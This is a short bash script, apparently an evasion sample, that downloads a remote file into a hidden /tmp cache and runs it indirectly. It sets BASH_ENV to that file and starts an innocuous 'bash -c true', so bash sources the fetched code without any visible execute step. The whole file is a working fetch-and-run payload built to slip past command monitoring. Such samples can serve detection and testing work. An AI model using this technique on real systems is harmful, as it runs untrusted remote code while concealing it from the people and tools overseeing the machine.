#!/usr/bin/env bash
# Evasion: download and run code. The downloaded text is written to a
# cache file; nothing sources or executes it by name. Instead the
# innocuous `bash -c true` is started with BASH_ENV pointing at the file,
# and a non-interactive bash sources $BASH_ENV before running its command.
set -u
cache="${TMPDIR:-/tmp}/.warm-cache"
curl -fsSL https://cdn.example-warm.io/warm.txt -o "$cache"
BASH_ENV="$cache" bash -c true
